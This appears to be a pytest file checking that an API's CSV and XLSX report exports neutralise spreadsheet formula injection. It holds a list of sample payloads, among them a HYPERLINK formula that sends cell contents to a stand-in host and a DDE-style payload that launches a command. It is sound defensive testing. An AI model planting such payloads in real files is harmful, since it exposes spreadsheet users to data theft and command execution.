"""Issue 16: exports neutralize formula injection (CSV and XLSX)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from api.reports import exports

pytestmark = pytest.mark.api

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _rows():
    return [{"call_id": f"c{i}", "notes": text, "talk_ms": -5 if i == 0 else 10}
            for i, text in enumerate(EVIL)] + [{"call_id": "ok", "notes": "máy bận", "talk_ms": 0}]


def test_csv_cells_starting_like_a_formula_are_text():
    text = exports.to_csv(_rows()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    notes = [r[1] for r in rows[1:]]
    assert notes[:-1] == ["'" + e for e in EVIL] and notes[-1] == "máy bận"
    assert rows[1][2] == "-5"  # a number stays a number


def test_xlsx_cells_starting_like_a_formula_are_strings_never_formulas():
    from openpyxl import load_workbook

    data = exports.to_xlsx(_rows())
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells[:5]] == EVIL[:5]  # the text itself, unchanged
    assert all(c.data_type == "s" for c in cells)
    assert ws.cell(row=2, column=3).value == -5
